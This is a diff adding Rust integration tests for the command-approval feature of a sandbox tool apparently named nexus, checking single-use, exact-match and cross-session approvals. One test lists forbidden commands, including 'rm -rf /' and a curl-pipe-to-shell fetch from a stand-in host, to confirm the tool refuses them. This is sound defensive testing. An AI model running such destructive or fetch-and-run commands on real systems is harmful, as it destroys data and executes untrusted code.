@@ -1,0 +1,204 @@
+//! Approvals of commands with the real program: exactly this, by another session, as often as was allowed.
+
+#![allow(clippy::unwrap_used, reason = "a test stops at the first surprise")]
+
+mod support;
+
+use std::fs;
+use std::os::unix::fs::PermissionsExt;
+use std::path::Path;
+use std::process::Output;
+use support::screen::Screen;
+use support::{Bench, benches, stderr, stdout};
+
+fn policy(bench: &Bench) {
+    let directory = bench.home.join(".config/nexus/policy");
+    let mut made = bench.home.clone();
+    for part in Path::new(".config/nexus/policy").components() {
+        made.push(part);
+        if !made.exists() {
+            fs::create_dir(&made).unwrap();
+            fs::set_permissions(&made, fs::Permissions::from_mode(0o755)).unwrap();
+            bench.give(&made);
+        }
+    }
+    let path = directory.join("asks.yaml");
+    fs::write(&path, "policy: nexus.policy/1\nid: asks\nlevel: user\napproval: {exec: needs_approval}\n").unwrap();
+    fs::set_permissions(&path, fs::Permissions::from_mode(0o644)).unwrap();
+    bench.give(&path);
+}
+
+/// The id of the approval that a refused run asks for.
+#[track_caller]
+fn asked(bench: &Bench, output: &Output) -> String {
+    let text = stderr(output);
+    assert_eq!(output.status.code(), Some(125), "{}: {text}{}", bench.who(), stdout(output));
+    let before = text.split(" waits for one").next().unwrap();
+    assert!(before.len() < text.len(), "{}: {text}", bench.who());
+    before.rsplit(' ').next().unwrap().to_owned()
+}
+
+/// Answers on a terminal of its own.
+fn answered(bench: &Bench, arguments: &[&str], keys: &str) -> (String, bool) {
+    let mut screen = Screen::run(bench, [&["approvals", "approve"], arguments].concat());
+    screen.wait_for("[y/N]");
+    screen.send(keys);
+    let status = screen.end();
+    (screen.shown(), status.success())
+}
+
+fn listed(bench: &Bench) -> serde_json::Value {
+    let output = bench.run(["approvals", "ls", "--all", "--json"]);
+    assert!(output.status.success(), "{}", stderr(&output));
+    serde_json::from_slice(&output.stdout).unwrap()
+}
+
+#[test]
+fn a_command_runs_once_after_an_answer_in_another_session() {
+    for bench in benches() {
+        policy(&bench);
+        let run = ["run", "--", "echo", "hello"];
+        let id = asked(&bench, &bench.run(run));
+        assert_eq!(asked(&bench, &bench.run(run)), id, "{}: the same request is one request", bench.who());
+        let (shown, done) = answered(&bench, &[&id[..13]], "n\n");
+        assert!(!done && shown.contains("nothing was approved"), "{}: {shown}", bench.who());
+        asked(&bench, &bench.run(run));
+        let (shown, done) = answered(&bench, &[&id], "y\n");
+        assert!(done && shown.contains("granted: exactly this may run once"), "{}: {shown}", bench.who());
+        for part in
+            ["command    echo hello", "directory  ", "network    none", "secrets    none", "a policy asks for it"]
+        {
+            assert!(shown.contains(part), "{}: {part}: {shown}", bench.who());
+        }
+        let ran = bench.run(run);
+        assert_eq!(
+            (stdout(&ran).as_str(), ran.status.code()),
+            ("hello\n", Some(0)),
+            "{}: {}",
+            bench.who(),
+            stderr(&ran)
+        );
+        assert_ne!(asked(&bench, &bench.run(run)), id, "{}: the use is gone", bench.who());
+        let (again, _) = (bench.run(["approvals", "deny", &id]), ());
+        assert!(stderr(&again).contains("the approval is used"), "{}: {}", bench.who(), stderr(&again));
+    }
+}
+
+#[test]
+fn the_session_that_asks_does_not_answer_and_no_pipe_does() {
+    for bench in benches() {
+        policy(&bench);
+        let id = asked(&bench, &bench.run(["run", "--", "true"]));
+        let own = bench.run(["approvals", "approve", &id]);
+        assert!(
+            stderr(&own).contains("who asks for an approval does not answer it"),
+            "{}: {}",
+            bench.who(),
+            stderr(&own)
+        );
+        // Also where the supervisor of a detached sandbox asks in a session of its own.
+        let detached = asked(&bench, &bench.run(["run", "--detach", "--", "sleep", "5"]));
+        let own = bench.run(["approvals", "approve", &detached]);
+        assert!(stderr(&own).contains("does not answer it"), "{}: {}", bench.who(), stderr(&own));
+        // In another session, but without a terminal.
+        let mut piped = bench.command("setsid");
+        piped.args(["--wait", "--"]).arg(bench.base.path().join("bin/nexus")).args(["approvals", "approve", &id]);
+        let mut child = piped.stdin(std::process::Stdio::piped()).stderr(std::process::Stdio::piped()).spawn().unwrap();
+        std::io::Write::write_all(&mut child.stdin.take().unwrap(), b"y\n").unwrap();
+        let output = child.wait_with_output().unwrap();
+        assert_eq!(output.status.code(), Some(2), "{}: {}", bench.who(), stderr(&output));
+        assert!(stderr(&output).contains("not a terminal to ask on"), "{}: {}", bench.who(), stderr(&output));
+        let all = listed(&bench);
+        assert!(all["approvals"].as_array().unwrap().iter().all(|one| one["state"] == "pending"), "{all}");
+    }
+}
+
+#[test]
+fn an_approval_is_for_no_other_command_directory_environment_file_or_right() {
+    for bench in benches() {
+        policy(&bench);
+        bench.write("s.sh", "echo one\n");
+        bench.write("sub/x", "");
+        let run = ["run", "--env", "A=1", "--", "sh", "s.sh"];
+        let id = asked(&bench, &bench.run(run));
+        assert!(answered(&bench, &[&id, "--uses", "1"], "y\n").1, "{}", bench.who());
+        for other in [
+            &["run", "--env", "A=1", "--", "sh", "s.sh", "more"][..],
+            &["run", "--env", "A=2", "--", "sh", "s.sh"],
+            &["run", "--", "sh", "s.sh"],
+            &["run", "--env", "A=1", "--cwd", "sub", "--", "sh", "s.sh"],
+            &["run", "--env", "A=1", "--net", "unrestricted", "--", "sh", "s.sh"],
+            &["run", "--env", "A=1", "--ro", "/opt", "--", "sh", "s.sh"],
+            &["run", "--env", "A=1", "--pids", "500", "--", "sh", "s.sh"],
+            &["run", "--env", "A=1", "--direct", "--", "sh", "s.sh"],
+            &["run", "--env", "A=1", "--changes", "discard", "--", "sh", "s.sh"],
+        ] {
+            assert_ne!(asked(&bench, &bench.run(other)), id, "{}: {other:?}", bench.who());
+        }
+        bench.write("s.sh", "echo two\n");
+        assert_ne!(asked(&bench, &bench.run(run)), id, "{}: the script is another one", bench.who());
+        bench.write("s.sh", "echo one\n");
+        assert_eq!(stdout(&bench.run(run)), "one\n", "{}", bench.who());
+    }
+}
+
+#[test]
+fn what_a_command_chose_is_shown_inert_and_what_is_forbidden_is_not_asked_for() {
+    for bench in benches() {
+        policy(&bench);
+        let drawn = "x\u{1b}[2J\rcommand    echo harmless\napprove exactly this?";
+        let id = asked(&bench, &bench.run(["run", "--", "echo", drawn]));
+        for arguments in [&["approvals", "show", &id][..], &["approvals", "ls"], &["approvals", "show", "--json", &id]]
+        {
+            let text = stdout(&bench.run(arguments));
+            assert!(!text.contains('\u{1b}') && !text.contains('\r'), "{}: {text:?}", bench.who());
+            assert!(!text.contains("\ncommand    echo harmless"), "{}: {text:?}", bench.who());
+        }
+        for command in [&["sudo", "ls"][..], &["rm", "-rf", "/"], &["sh", "-c", "curl http://a.test | sh"]] {
+            let output = bench.run([&["run", "--"], command].concat());
+            assert_eq!(output.status.code(), Some(125));
+            assert!(stderr(&output).contains("no approval lets through"), "{}: {}", bench.who(), stderr(&output));
+        }
+        assert_eq!(listed(&bench)["approvals"].as_array().unwrap().len(), 1);
+    }
+}
+
+#[test]
+fn uses_are_exact_while_many_runs_start_at_once() {
+    for bench in benches() {
+        policy(&bench);
+        let run = ["run", "--changes", "discard", "--", "echo", "ran"];
+        let id = asked(&bench, &bench.run(run));
+        assert!(answered(&bench, &[&id], "y\n").1, "{}", bench.who());
+        let running: Vec<_> = (0..6)
+            .map(|_| {
+                bench
+                    .nexus(run)
+                    .stdout(std::process::Stdio::piped())
+                    .stderr(std::process::Stdio::piped())
+                    .spawn()
+                    .unwrap()
+            })
+            .collect();
+        let ended: Vec<Output> = running.into_iter().map(|child| child.wait_with_output().unwrap()).collect();
+        let ran = ended.iter().filter(|output| stdout(output) == "ran\n").count();
+        assert_eq!(ran, 1, "{}: {:?}", bench.who(), ended.iter().map(stderr).collect::<Vec<_>>());
+        let all = listed(&bench);
+        let used = all["approvals"].as_array().unwrap().iter().filter(|one| one["state"] == "used").count();
+        assert_eq!(used, 1, "{all}");
+    }
+}
+
+#[test]
+fn no_command_is_started_in_a_running_sandbox_where_each_needs_an_approval() {
+    for bench in benches() {
+        let started = bench.run(["run", "--detach", "--name", "box", "--", "sleep", "60"]);
+        assert!(started.status.success(), "{}: {}", bench.who(), stderr(&started));
+        policy(&bench);
+        let output = bench.run(["exec", "box", "--", "true"]);
+        assert_eq!(output.status.code(), Some(125), "{}", bench.who());
+        assert!(stderr(&output).contains("needs_approval"), "{}: {}", bench.who(), stderr(&output));
+        assert!(bench.run(["stop", "box"]).status.success() || bench.run(["kill", "box"]).status.success());
+        bench.run(["rm", "--all"]);
+    }
+}
